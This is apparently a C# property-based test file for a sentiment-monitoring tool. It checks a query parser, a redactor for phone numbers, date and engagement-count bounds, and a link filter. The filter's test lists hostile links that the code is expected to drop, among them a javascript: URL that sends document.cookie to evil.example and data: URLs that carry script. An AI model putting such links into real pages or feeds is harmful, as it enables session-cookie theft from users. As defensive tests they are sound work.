using CsCheck;
using SentimentWatch.Core.Mentions;
using SentimentWatch.Core.Privacy;
using SentimentWatch.Core.Watches;

namespace SentimentWatch.Core.Tests.Privacy;

/// <summary>Issue 17, item 4: generated inputs never make the query parser, the field contract or the redactor throw.</summary>
public sealed class PropertyTests
{
    private static readonly string[] Operators = ["", " AND ", " OR ", " NOT ", "(", ")", "\"", "-", "AND", "OR", "NOT"];

    private static readonly Gen<string> QueryText = Gen.String[Gen.OneOf(Gen.Char["abc 退款()（）\"“”-*|&:"], Gen.Const('A'), Gen.Const('N')), 0, 60]
        .Select(Gen.Int[0, Operators.Length - 1].Select(i => Operators[i]), (s, op) => s + op);

    [Fact]
    public void The_watch_query_parser_answers_every_string_with_a_query_or_an_error_never_an_exception() =>
        QueryText.Sample(text =>
        {
            var ok = WatchQuery.TryParse(text, out var query, out var error);
            if (ok)
            {
                query.Matches("lumo 退款 abc").GetType().ShouldBe(typeof(bool));
            }
            else
            {
                error.ShouldNotBeNullOrWhiteSpace();
            }
        }, iter: 20_000);

    [Fact]
    public void The_redactor_never_throws_is_idempotent_and_removes_an_embedded_mobile_number() =>
        Gen.Select(Gen.String[Gen.Char["0123456789 +-.()@abc中文１２３＠"], 0, 80], Gen.Int[0, 99_999_999], Gen.String[Gen.Char["abc 中文，。"], 0, 20])
            .Sample((noise, n, words) =>
            {
                var once = PersonalDataRedactor.Redact(noise, RedactionKinds.All);
                PersonalDataRedactor.Redact(once, RedactionKinds.All).ShouldBe(once);

                var mobile = "138" + n.ToString("D8", System.Globalization.CultureInfo.InvariantCulture);
                PersonalDataRedactor.Redact($"{words}联系{mobile}谢谢{words}").ShouldNotContain(mobile);
            }, iter: 20_000);

    [Fact]
    public void The_field_contract_checks_and_fits_any_date_and_any_text_without_throwing() =>
        Gen.Select(Gen.Long[DateTimeOffset.MinValue.UtcTicks, DateTimeOffset.MaxValue.UtcTicks], Gen.Int[-14 * 60, 14 * 60], Gen.String[Gen.Char, 0, 40])
            .Sample((ticks, offsetMinutes, text) =>
            {
                var offset = TimeSpan.FromMinutes(offsetMinutes);
                var utc = new DateTime(ticks, DateTimeKind.Utc);
                if (ticks + offset.Ticks < DateTime.MinValue.Ticks || ticks + offset.Ticks > DateTime.MaxValue.Ticks)
                {
                    return;
                }

                var published = new DateTimeOffset(utc).ToOffset(offset);
                var now = DateTimeOffset.UtcNow;
                var errors = MentionContract.Check(new MentionFields("app", text, null, text, text, text, text, text, published), now, MentionDateOptions.Default);
                errors.Keys.ShouldAllBe(k => k.Length > 0);
                errors.ContainsKey("publishedAt").ShouldBe(!MentionDateOptions.Default.Allows(published, now));

                var fitted = MentionContract.Fit(new Mention { Id = "x", Source = "app", Text = text, Author = text, PublishedAt = published, CollectedAt = now });
                MentionContract.RemoveControls(fitted.Text).ShouldBe(fitted.Text);
                MentionDateOptions.Default.Allows(fitted.PublishedAt, now).ShouldBeTrue();
            }, iter: 20_000);

    // The sweep of 5 December: reach = long.MaxValue was accepted and made the incident desk's window sum overflow, so the desk
    // skipped the post. Any count is checked against the bound, and a fitted mention's counts (and their total) stay inside it.
    [Fact]
    public void Engagement_counts_are_checked_and_fitted_to_the_bound_whatever_their_value() =>
        Gen.Select(Gen.Long, Gen.Long, Gen.Long, Gen.Long).Sample((reach, likes, replies, shares) =>
        {
            var now = DateTimeOffset.UtcNow;
            var errors = MentionContract.Check(new MentionFields("app", null, null, null, null, null, "t", null, now, reach, likes, replies, shares), now, MentionDateOptions.Default);
            errors.ContainsKey("reach").ShouldBe(reach is < 0 or > MentionContract.MaxEngagement);
            errors.ContainsKey("shares").ShouldBe(shares is < 0 or > MentionContract.MaxEngagement);

            var fitted = MentionContract.Fit(new Mention { Id = "x", Source = "app", Text = "t", PublishedAt = now, CollectedAt = now, Engagement = new Engagement(reach, likes, replies, shares) });
            var e = fitted.Engagement;
            new[] { e.Reach, e.Likes, e.Replies, e.Shares }.ShouldAllBe(v => v >= 0 && v <= MentionContract.MaxEngagement);
            e.Total.ShouldBeInRange(0, 3 * MentionContract.MaxEngagement);
            MentionContract.Fit(fitted).Engagement.ShouldBe(e);
            new Engagement(reach, likes, replies, shares).Total.ShouldBeGreaterThanOrEqualTo(Math.Max(0, Math.Max(reach, Math.Max(likes, Math.Max(replies, shares)))));
            if (reach is >= 0 and <= MentionContract.MaxEngagement)
            {
                e.Reach.ShouldBe(reach);
            }
        }, iter: 20_000);

    // A crawled feed or API can name any scheme as an item's link; only http(s) survives to the console, chat and CSV.
    [Theory]
    [InlineData("javascript:fetch('//evil.example/?c='+document.cookie)", null)]
    [InlineData("data:text/html,<script>alert(1)</script>", null)]
    [InlineData("JavaScript:alert(1)", null)]
    [InlineData("mailto:a@example.com", null)]
    [InlineData("/t/relative", null)]
    [InlineData("https://forum.example.com/t/1", "https://forum.example.com/t/1")]
    [InlineData("http://bbs.example.cn/thread-1-1-1.html", "http://bbs.example.cn/thread-1-1-1.html")]
    public void Fit_keeps_a_link_to_the_original_only_when_it_is_http(string url, string? kept)
    {
        var now = DateTimeOffset.UtcNow;
        var fitted = MentionContract.Fit(new Mention { Id = "x", Source = "rss", Text = "t", Url = url, PublishedAt = now, CollectedAt = now });
        fitted.Url.ShouldBe(kept);
        MentionContract.Fit(fitted).Url.ShouldBe(kept);
    }
}
